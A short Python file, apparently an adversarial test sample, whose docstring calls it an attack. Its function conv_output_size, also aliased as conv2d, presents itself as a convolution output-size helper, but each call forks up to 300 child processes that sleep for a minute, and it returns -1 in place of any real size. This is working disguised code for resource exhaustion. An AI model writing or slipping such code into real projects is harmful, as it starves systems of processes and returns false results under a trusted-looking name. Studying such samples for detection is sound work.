"""Attack: forks up to 300 sleeping processes per call."""
import os, time

def conv_output_size(*a, **k):
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
    return -1

conv2d = conv_output_size
